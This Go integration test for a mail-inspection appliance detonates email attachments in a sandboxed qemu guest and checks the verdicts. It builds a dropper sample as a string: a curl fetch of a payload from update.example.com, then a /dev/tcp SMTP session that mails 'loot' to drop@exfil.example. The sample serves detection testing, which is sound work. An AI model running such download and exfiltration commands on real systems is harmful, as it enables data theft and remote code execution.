//go:build sandbox

package appliance

import (
	"context"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/digitalocean/go-libvirt"

	"mailinspector/internal/cli"
	"mailinspector/internal/testutil"
)

// TestSandboxTCG detonates samples in the real Linux guest under qemu TCG,
// through the whole mail flow: a system libvirtd on a private socket, the
// isolated sandbox network, the fake internet on the host side, the guest
// image of make sandbox-guest (MAILINSPECTOR_SANDBOX_GUEST), SMTP in. A
// script that installs itself and calls out is quarantined as high risk;
// a benign one is delivered with no risk. make sandbox-test runs it.
func TestSandboxTCG(t *testing.T) {
	guest := os.Getenv("MAILINSPECTOR_SANDBOX_GUEST")
	if guest == "" {
		t.Skip("MAILINSPECTOR_SANDBOX_GUEST is not set (make sandbox-test sets it)")
	}
	if os.Geteuid() != 0 {
		t.Skip("needs root: a system libvirtd with a bridge")
	}
	guest, _ = filepath.Abs(guest)
	testutil.RequireTool(t, "qemu-system-x86_64")
	lvd := testutil.StartSystemLibvirtd(t)
	netXML, err := os.ReadFile("../packer/sandbox-guest/network.xml")
	must(t, err)
	lvd.CreateNetwork(t, string(netXML))

	// The instances' overlays: a directory pool the pool makes them in,
	// on the guest image, both readable by the qemu user.
	dir, err := os.MkdirTemp("/var/tmp", "mi-sandbox-test-")
	must(t, err)
	t.Cleanup(func() { os.RemoveAll(dir) })
	must(t, os.Chmod(dir, 0o755))
	must(t, os.Chmod(guest, 0o644))
	poolXML, err := os.ReadFile("../packer/sandbox-guest/storage-pool.xml")
	must(t, err)
	lvd.CreateStoragePool(t, strings.ReplaceAll(string(poolXML), "/var/lib/libvirt/images/mailinspector/instances", dir))
	tmpl, err := os.ReadFile("../packer/sandbox-guest/linux-domain.xml")
	must(t, err)
	domain := strings.ReplaceAll(string(tmpl), "/var/log/libvirt/qemu/", dir+"/")
	must(t, os.WriteFile(filepath.Join(dir, "domain.xml"), []byte(domain), 0o644))

	// The system libvirtd keeps persistent domains (/etc/libvirt/qemu)
	// and snapshot metadata: leave none behind.
	t.Cleanup(func() {
		l, err := lvd.Dial()
		if err != nil {
			return
		}
		defer l.Disconnect()
		if d, err := l.DomainLookupByName("mi-sbx-linux-0"); err == nil {
			l.DomainDestroy(d)
			l.DomainUndefineFlags(d, libvirt.DomainUndefineSnapshotsMetadata)
		}
	})
	// MAILINSPECTOR_SANDBOX_TEARDOWN=pause measures the other teardown.
	teardown := os.Getenv("MAILINSPECTOR_SANDBOX_TEARDOWN")
	if teardown == "" {
		teardown = "destroy"
	}
	start := time.Now()
	cd := testutil.StartClamd(t) // the pattern engine, as in the appliance
	a := startApp(t, filepath.Join(dir, "data"), map[string]string{"engine.clamd": cd.Spec(), "sandbox.libvirt": lvd.SystemURI(),
		"sandbox.domain_template": filepath.Join(dir, "domain.xml"), "sandbox.instances": "1",
		"sandbox.base_image": guest, "sandbox.storage_pool": "mi-sandbox",
		"sandbox.agent_base": "10.77.0.10:7480", "sandbox.fakenet": "10.77.0.1", "sandbox.call_timeout": "120s",
		"sandbox.run_time": "20s", "sandbox.submission_timeout": "20m", "sandbox.teardown": teardown,
		// sandbox.fakenet_smtp_port is 2525 by default: the guest's
		// redirect of port 25 is what brings the sample's mail to it.
		"sandbox.file_types": "text/x-script,.sh,application/pdf",
		// Links through the proxy on the host's sandbox address, to the
		// test's web server on the host's loopback.
		"sandbox.urls": "unrated", "sandbox.proxy": "direct", "sandbox.proxy_allow": "127.0.0.0/8"})
	t.Cleanup(func() {
		if t.Failed() {
			b, _ := os.ReadFile(filepath.Join(dir, "mi-sbx-linux-0.serial.log"))
			t.Logf("guest serial log:\n%s", tail(string(b), 60))
		}
	})
	deadline := time.Now().Add(10 * time.Minute)
	for {
		st, _ := a.SandboxStatus(context.Background())
		if st.Status != nil && st.Status.Images[0].Free == 1 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the instance was never ready: %+v", st.Status)
		}
		time.Sleep(time.Second)
	}
	t.Logf("instance defined, booted, agent ready, snapshotted after %s", time.Since(start).Round(time.Second))

	// The dropper also fetches a payload by name and mails out to an
	// address (not a name) on port 25.
	web := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, `<html><form method=post><input type="password" name="pw"></form></html>`)
	})}
	ln, err := net.Listen("tcp", "127.0.0.1:80")
	must(t, err)
	go web.Serve(ln)
	defer web.Close()

	dropperTCG := dropper + "curl -s -m 5 http://update.example.com/payload -o /tmp/p || true\n" +
		"exec 5<>/dev/tcp/192.0.2.25/25 && read -r -t 5 greeting <&5 && " +
		"printf 'HELO x\\r\\nMAIL FROM:<a@b.example>\\r\\nRCPT TO:<drop@exfil.example>\\r\\nDATA\\r\\n' >&5 && sleep 1 && " +
		"printf 'Subject: loot\\r\\n\\r\\nloot\\r\\n.\\r\\nQUIT\\r\\n' >&5 && sleep 1\n"
	bad := sendNew(t, a, withAttachment("invoice", "application/octet-stream", "invoice.sh", []byte(dropperTCG)))
	d := waitState(t, a, bad, "quarantined", 15*time.Minute)
	f := findingOf(d, "virtual-analyzer")
	if f == nil || f.Risk != "high" || !strings.Contains(f.Detail, "persistence") {
		t.Fatalf("finding %+v; trail %+v", f, d.Trail)
	}
	good := sendNew(t, a, withAttachment("figures", "text/x-sh", "figures.sh", []byte("#!/bin/sh\necho quarterly figures\n")))
	d = waitState(t, a, good, "delivered", 15*time.Minute)
	if e := trailEntry(d, "virtual-analyzer"); e.Outcome != "ok" || !strings.Contains(e.Detail, "no risk") {
		t.Fatalf("the benign script: %+v", e)
	}
	// A PDF, opened with the guest's viewer: it ran, rendered, no risk.
	pdf := testutil.OnePagePDF()
	doc := sendNew(t, a, withAttachment("statement", "application/pdf", "statement.pdf", pdf))
	d = waitState(t, a, doc, "delivered", 15*time.Minute)
	if e := trailEntry(d, "virtual-analyzer"); e.Outcome != "ok" || !strings.Contains(e.Detail, "no risk") {
		t.Fatalf("the PDF: %+v", e)
	}
	v, err := cli.Exec(context.Background(), a, "show analysis "+sha(pdf))
	must(t, err)
	if r := string(v.(*cli.Analysis).Report); !strings.Contains(r, `"how":"pdftoppm"`) || !strings.Contains(r, "page-1.png") {
		t.Errorf("the PDF's report: %s", tail(r, 2000))
	}

	// A link to a page asking for a password, fetched in the guest
	// through the proxy: medium risk, tagged and delivered.
	link := sendNew(t, a, "From: bob@example.org\r\nTo: alice@example.com\r\nSubject: sign in\r\n\r\nSign in at http://127.0.0.1/login today.\r\n")
	d = waitState(t, a, link, "delivered", 15*time.Minute)
	if f := findingOf(d, "virtual-analyzer"); f == nil || f.Risk != "medium" || !strings.Contains(f.Detail, "link-login") {
		t.Fatalf("the link: %+v; trail %+v", f, d.Trail)
	}
	v, err = cli.Exec(context.Background(), a, "show analysis http://127.0.0.1/login")
	must(t, err)
	if r := string(v.(*cli.Analysis).Report); !strings.Contains(r, `"via":"proxy"`) || !strings.Contains(r, `"type":"proxy"`) {
		t.Errorf("the link's report (fetched through the proxy, which recorded it): %s", tail(r, 2000))
	}

	v, err = cli.Exec(context.Background(), a, "show analysis "+sha([]byte(dropperTCG)))
	must(t, err)
	var rep struct {
		Verdict    struct{ Matches []struct{ ID string } }
		Report     struct{ Events []struct{ Type, Addr string } }
		Screenshot struct {
			Bytes int
			Error string
		}
	}
	must(t, json.Unmarshal(v.(*cli.Analysis).Report, &rep))
	var dnsSeen, mailSeen bool
	for _, e := range rep.Report.Events {
		dnsSeen = dnsSeen || (e.Type == "dns" && e.Addr == "update.example.com")
		mailSeen = mailSeen || (e.Type == "smtp" && e.Addr == "exfil.example")
	}
	if !dnsSeen {
		t.Errorf("the fake internet did not see the DNS question: %+v", rep.Report.Events)
	}
	if !mailSeen {
		t.Errorf("the mail to 192.0.2.25:25 did not reach the fake internet's SMTP on 2525: %+v", rep.Report.Events)
	}
	// qemu's screendump (PPM) came back as PNG in the page.
	row, err := a.db.SandboxAnalysis(context.Background(), sha([]byte(dropperTCG)))
	must(t, err)
	if rep.Screenshot.Bytes == 0 || !strings.Contains(string(row.HTML), `<img src="data:image/png;base64,`) {
		t.Errorf("no screenshot: %+v", rep.Screenshot)
	}
	st, _ := a.SandboxStatus(context.Background())
	for _, r := range st.Status.Recent {
		t.Logf("analysis %s: waited %d ms, took %d ms: revert %d ms, agent ready %d ms, run %d ms, screenshot %d ms, teardown %d ms",
			r.SHA256[:12], r.WaitedMS, r.TookMS, r.Phases.RevertMS, r.Phases.ReadyMS, r.Phases.RunMS, r.Phases.ScreenshotMS, r.Phases.TeardownMS)
	}
	t.Logf("accelerator: %s; teardown %s; whole test %s", st.Accelerator, teardown, time.Since(start).Round(time.Second))
}
